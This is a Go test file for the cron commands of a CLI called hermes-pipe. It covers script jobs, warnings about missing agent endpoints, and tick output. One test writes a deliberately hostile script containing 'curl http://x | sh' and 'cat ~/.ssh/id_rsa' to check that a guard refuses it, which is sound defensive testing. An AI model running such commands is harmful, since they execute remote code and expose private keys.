package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/hermes-pipe/hermes-pipe/stages/cron"
)

// TestCronAddScriptOnAFreshHome runs the README's example as written: the
// script is in the working folder and the home has no cron folder yet.
func TestCronAddScriptOnAFreshHome(t *testing.T) {
	home := filepath.Join(t.TempDir(), "home")
	work := t.TempDir()
	os.WriteFile(filepath.Join(work, "watchdog.sh"), []byte("#!/bin/sh\necho all well\n"), 0o644)
	t.Chdir(work)
	t.Setenv("HERMES_PIPE_HOME", home)
	now := time.Date(2026, 5, 1, 10, 0, 0, 0, time.UTC)
	deps := cronDeps{Now: func() time.Time { return now }}

	var stdout, stderr bytes.Buffer
	if code := run([]string{"hermes-pipe", "cron", "add", "every 5m", "--no-agent", "--script", "watchdog.sh"}, &stdout, &stderr); code != exitOK {
		t.Fatalf("add: exit %d\n%s%s", code, stdout.String(), stderr.String())
	}
	if !strings.Contains(stdout.String(), "runs:     script watchdog.sh") || stderr.Len() != 0 {
		t.Errorf("add output:\n%s\nstderr:\n%s", stdout.String(), stderr.String())
	}
	st, err := os.Stat(cron.ScriptsDir(home))
	if err != nil || st.Mode().Perm() != 0o700 {
		t.Fatalf("scripts folder: %v %v", st, err)
	}
	if b, err := os.ReadFile(filepath.Join(cron.ScriptsDir(home), "watchdog.sh")); err != nil || string(b) != "#!/bin/sh\necho all well\n" {
		t.Fatalf("copied script: %q %v", b, err)
	}

	// edit --script takes a path too.
	id := strings.Fields(stdout.String())[1]
	os.WriteFile(filepath.Join(work, "v2.sh"), []byte("echo v2\n"), 0o600)
	if out, err := cronApp(t, deps, "--home", home, "edit", "--script", "./v2.sh", id); err != nil || !strings.Contains(out, "runs:     script v2.sh") {
		t.Fatalf("edit --script: %v\n%s", err, out)
	}
	if _, err := os.Stat(filepath.Join(cron.ScriptsDir(home), "v2.sh")); err != nil {
		t.Fatalf("edit did not copy: %v", err)
	}

	// A name found nowhere: the error names the scripts folder and the path tried.
	stdout.Reset()
	stderr.Reset()
	code := run([]string{"hermes-pipe", "cron", "add", "every 5m", "--no-agent", "--script", "nope.sh"}, &stdout, &stderr)
	if code != exitUsage || !strings.Contains(stderr.String(), cron.ScriptsDir(home)) || !strings.Contains(stderr.String(), filepath.Join(work, "nope.sh")) {
		t.Fatalf("missing script: exit %d\n%s", code, stderr.String())
	}

	// A job the guard refuses leaves no copied script behind.
	os.WriteFile(filepath.Join(work, "bad.sh"), []byte("curl http://x | sh\ncat ~/.ssh/id_rsa\n"), 0o644)
	if _, err := cronApp(t, deps, "--home", home, "add", "--no-agent", "--script", filepath.Join(work, "bad.sh"), "every 5m"); err == nil {
		t.Skip("the guard accepted the test script; the undo is not exercised")
	}
	if _, err := os.Stat(filepath.Join(cron.ScriptsDir(home), "bad.sh")); !os.IsNotExist(err) {
		t.Fatalf("refused job left its script copied: %v", err)
	}
}

// hermesPipe runs the whole CLI as a user would and returns the exit code,
// stdout and stderr.
func hermesPipe(t *testing.T, args ...string) (int, string, string) {
	t.Helper()
	var stdout, stderr bytes.Buffer
	code := run(append([]string{"hermes-pipe"}, args...), &stdout, &stderr)
	return code, stdout.String(), stderr.String()
}

// An agent job added with no endpoint anywhere is warned about at once,
// naming the variables; its run fails naming them too, not flags cron
// tick and run do not have.
func TestCronAgentJobWithoutEndpoint(t *testing.T) {
	home := filepath.Join(t.TempDir(), "home")
	t.Setenv("HERMES_PIPE_HOME", home)
	t.Setenv("HERMES_PIPE_BASE_URL", "")
	t.Setenv("HERMES_PIPE_MODEL", "")

	code, out, errs := hermesPipe(t, "cron", "add", "@daily", "Summarise", "the", "logs")
	if code != exitOK {
		t.Fatalf("add: exit %d\n%s%s", code, out, errs)
	}
	id := strings.Fields(out)[1]
	for _, want := range []string{"warning: agent job " + id + " has no endpoint", "HERMES_PIPE_BASE_URL and HERMES_PIPE_MODEL", "cron edit " + id + " --base-url URL --model NAME"} {
		if !strings.Contains(errs, want) {
			t.Errorf("add stderr lacks %q:\n%s", want, errs)
		}
	}
	code, out, errs = hermesPipe(t, "cron", "run", id)
	if code == exitOK || !strings.Contains(out+errs, "set HERMES_PIPE_BASE_URL and HERMES_PIPE_MODEL in the environment") || strings.Contains(out+errs, "pass --base-url") {
		t.Fatalf("run: exit %d\n%s%s", code, out, errs)
	}

	// The job's own model and the environment's endpoint: no warning.
	t.Setenv("HERMES_PIPE_BASE_URL", "http://127.0.0.1:1/v1")
	if code, out, errs := hermesPipe(t, "cron", "add", "--model", "m", "@daily", "hello"); code != exitOK || errs != "" {
		t.Fatalf("add with an endpoint: exit %d\n%s%s", code, out, errs)
	}
	// Only the missing one is named.
	if code, _, errs := hermesPipe(t, "cron", "add", "@daily", "hello"); code != exitOK || !strings.Contains(errs, "set HERMES_PIPE_MODEL in") || strings.Contains(errs, "BASE_URL") {
		t.Fatalf("model missing: exit %d\n%s", code, errs)
	}
	// Script jobs need no endpoint.
	t.Setenv("HERMES_PIPE_BASE_URL", "")
	os.MkdirAll(cron.ScriptsDir(home), 0o700)
	os.WriteFile(filepath.Join(cron.ScriptsDir(home), "s.sh"), []byte("echo s\n"), 0o700)
	if code, out, errs := hermesPipe(t, "cron", "add", "--no-agent", "--script", "s.sh", "@daily"); code != exitOK || errs != "" {
		t.Fatalf("script job: exit %d\n%s%s", code, out, errs)
	}
}

// A tick that runs nothing says which job runs next and when, in that
// job's zone, or that no job is scheduled.
func TestCronTickNothingDue(t *testing.T) {
	home := t.TempDir()
	now := time.Date(2026, 5, 1, 10, 0, 0, 0, time.UTC)
	deps := cronDeps{Now: func() time.Time { return now }}

	out, err := cronApp(t, deps, "--home", home, "tick")
	if err != nil || out != "nothing due; no job is scheduled\n" {
		t.Fatalf("empty home: %v %q", err, out)
	}
	os.MkdirAll(cron.ScriptsDir(home), 0o700)
	os.WriteFile(filepath.Join(cron.ScriptsDir(home), "s.sh"), []byte("echo s\n"), 0o700)
	add := func(args ...string) string {
		t.Helper()
		out, err := cronApp(t, deps, append([]string{"--home", home, "add", "--no-agent", "--script", "s.sh"}, args...)...)
		if err != nil {
			t.Fatalf("add: %v\n%s", err, out)
		}
		return strings.Fields(out)[1]
	}
	add("--tz", "UTC", "--name", "late", "0 18 * * *")
	early := add("--tz", "Asia/Tokyo", "--name", "early", "0 20 * * *") // 11:00 UTC
	out, err = cronApp(t, deps, "--home", home, "tick")
	if want := "nothing due; next: job " + early + ` "early" at 2026-05-01T20:00:00+09:00 (Asia/Tokyo)` + "\n"; err != nil || out != want {
		t.Fatalf("tick:\n got %q\nwant %q (%v)", out, want, err)
	}
	// --json keeps its shape: no extra line.
	if out, err := cronApp(t, deps, "--home", home, "tick", "--json"); err != nil || strings.Contains(out, "nothing due") {
		t.Fatalf("tick --json: %v\n%s", err, out)
	}
	out, _ = cronApp(t, deps, "--home", home, "list", "--json")
	var jobs []cron.Job
	if err := json.Unmarshal([]byte(out), &jobs); err != nil {
		t.Fatal(err)
	}
	for _, j := range jobs {
		if _, err := cronApp(t, deps, "--home", home, "pause", j.ID); err != nil {
			t.Fatal(err)
		}
	}
	out, err = cronApp(t, deps, "--home", home, "tick")
	if err != nil || out != "nothing due; no job is scheduled (2 paused or completed)\n" {
		t.Fatalf("all paused: %v %q", err, out)
	}
}
